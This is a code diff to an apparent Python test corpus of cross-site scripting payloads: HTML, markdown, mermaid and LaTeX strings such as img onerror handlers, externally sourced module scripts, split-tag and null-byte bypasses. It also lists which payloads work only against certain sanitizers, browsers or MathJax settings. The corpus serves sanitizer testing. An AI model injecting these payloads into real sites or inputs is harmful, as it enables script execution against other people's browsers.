@@ -15,7 +15,7 @@ from urllib.parse import quote
 
 @dataclass(frozen=True)
 class Payload:
-    """One idea; `is_seen_raw` says whether it acts on at least one page that cleans nothing."""
+    """One idea; `is_seen_raw` says whether it acts on a page that cleans nothing."""
 
     name: str
     kind: str
@@ -44,7 +44,7 @@ _HTML = {
     "module from elsewhere": "<script type=module src=@URL></script>",
     "script within a script": "<scr<script>ipt>@JS</scr</script>ipt>",
     "image that fails": "<img src=x: onerror=@JS>",
-    "image without blanks": "<img/src=x:/onerror=@JS>",
+    "image without blanks": "<img/src/onerror=@JS>",
     "image in quotes": "<img src='x:' onerror='@JS'>",
     "image over lines": "<img\nsrc=x:\nonerror=@JS\n>",
     "image with a null": "<im\x00g src=x: onerror=@JS>",
@@ -164,7 +164,7 @@ _MARKDOWN = {
     "markdown quotation": "> <img src=x: onerror=@JS>",
     "markdown code": "`a` <img src=x: onerror=@JS> `b`",
     "markdown open code": "```\nx\n```\n<img src=x: onerror=@JS>",
-    "markdown code with a name": "~~~<img/src=x:/onerror=@JS>\nx\n~~~",
+    "markdown code with a name": "~~~<img/src/onerror=@JS>\nx\n~~~",
     "markdown diagram": "~~~mermaid\n</pre><img src=x: onerror=@JS>\n~~~",
     "markdown block": "<div>\n\n<img src=x: onerror=@JS>\n\n</div>",
     "markdown formula": "$$<img src=x: onerror=@JS>$$ <img src=x: onerror=@JS>",
@@ -200,10 +200,16 @@ _JSON = {
 }  # fmt: skip
 
 _UNSEEN = {
-    # what needs more than a page that cleans nothing: another browser, another version, a device
-    "preconnect",
-    "popover",
-}
+    # made for cleaners that take something out, put something in or write HTML anew
+    "script within a script", "image with a null", "image in a style", "image in a template",
+    "image as entities", "markdown link by entities",
+    # browsers of another kind or time do it
+    "embedded script", "preconnect", "icon", "marquee", "math link", "script link in a new tab",
+    "data link", "markdown data link",
+    # MathJax does it without its extension `Safe`, which stock pages ask for
+    "latex link", "latex style", "latex let", "latex in a script",
+}  # fmt: skip
+"""What does nothing on a page that cleans nothing, and may do something on one that does."""
 
 PAYLOADS = tuple(
     Payload(name, kind, text, name not in _UNSEEN)
